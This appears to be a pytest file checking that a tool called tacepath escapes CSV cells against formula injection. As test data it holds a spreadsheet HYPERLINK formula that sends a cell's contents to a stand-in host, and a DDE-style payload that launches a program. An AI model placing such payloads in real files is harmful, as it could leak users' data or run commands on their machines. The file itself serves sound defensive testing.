"""Every CSV tacepath writes is formula-safe (OWASP CSV injection): a text cell starting with
``=``, ``+``, ``-``, ``@``, tab or CR gets a leading ``'``; numbers stay numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from tacepath.cli import app
from tacepath.interop.csv_out import formula_safe, safe_cell

runner = CliRunner()
ROOT = Path(__file__).resolve().parents[2]
CURVE = ROOT / "examples" / "reconstruct" / "lung_male_curve.csv"
RISK = ROOT / "examples" / "reconstruct" / "lung_male_at_risk.csv"
ATTACK = '=HYPERLINK("http://x.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+2", "'=1+2"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1.5", "-1.5"),
        ("+2", "+2"),
        ("-3e-4", "-3e-4"),
        ("TACE alone", "TACE alone"),
        (-1.5, -1.5),
        (None, None),
    ],
)
def test_a_cell(cell: object, shown: object) -> None:
    assert safe_cell(cell) == shown


def test_a_frame_keeps_its_numbers() -> None:
    frame = pd.DataFrame({"time": [-1.5, 2.0], "arm": ["=1+2", "B"], "n": [1, -2]})
    out = formula_safe(frame)
    assert out["time"].tolist() == [-1.5, 2.0]
    assert out["n"].tolist() == [1, -2]
    assert out["arm"].tolist() == ["'=1+2", "B"]
    assert frame["arm"].tolist() == ["=1+2", "B"]  # the input is not changed


def test_reconstructed_ipd_arm_column(tmp_path: Path) -> None:
    out = tmp_path / "ipd.csv"
    r = runner.invoke(
        app,
        ["reconstruct", "--curve", str(CURVE), "--at-risk", str(RISK), "--events", "112",
         "--arm", ATTACK, "--out", str(out)],
    )  # fmt: skip
    assert r.exit_code == 0, r.stderr
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert {row["arm"] for row in rows} == {"'" + ATTACK}
    assert float(rows[0]["time"]) >= 0


def test_cohort_scores_csv(tmp_path: Path) -> None:
    src = tmp_path / "cohort.csv"
    text = (ROOT / "examples" / "cohort.csv").read_text(encoding="utf-8")
    src.write_text(text.replace("P001,", "@SUM(1+1),", 1), encoding="utf-8")
    out = tmp_path / "scores.csv"
    r = runner.invoke(app, ["assess", str(src), "--out", str(out)])
    assert r.exit_code == 0, r.stderr
    with out.open(newline="", encoding="utf-8") as f:
        ids = [row["id"] for row in csv.DictReader(f)]
    assert ids[0] == "'@SUM(1+1)"
